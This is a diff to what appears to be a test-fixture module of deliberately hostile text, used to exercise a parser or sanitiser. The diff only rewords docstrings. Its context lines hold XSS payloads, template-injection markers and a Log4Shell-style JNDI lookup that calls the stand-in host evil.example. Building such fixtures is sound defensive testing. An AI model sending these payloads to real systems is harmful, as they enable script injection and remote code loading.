@@ -1,4 +1,4 @@
-"""Remote text as an attacker, or a careless page under test, would write it."""
+"""Hostile texts, as an attacker or a careless site under test would write them."""
 
 MARKUP = "<script>alert('xss')</script><img src=x onerror=alert(1)>\"'`&amp;"
 TEMPLATE = "{{ var.value.secret }} ${jndi:ldap://evil.example/a} {% raw %} %(asctime)s"
@@ -11,4 +11,4 @@ VERY_LONG = "very long text " * 700
 NASTY_TEXT = f"{MARKUP} {TEMPLATE} {CONTROL} {RIGHT_TO_LEFT} {MARKDOWN}"
 
 CUT_EMOJI = "Great shop! \ud83d"
-"""Text that was cut in the middle of an emoji: half of a surrogate pair, which UTF-8 cannot hold."""
+"""Text that was truncated in the middle of an emoji: a lone surrogate, which UTF-8 cannot encode."""
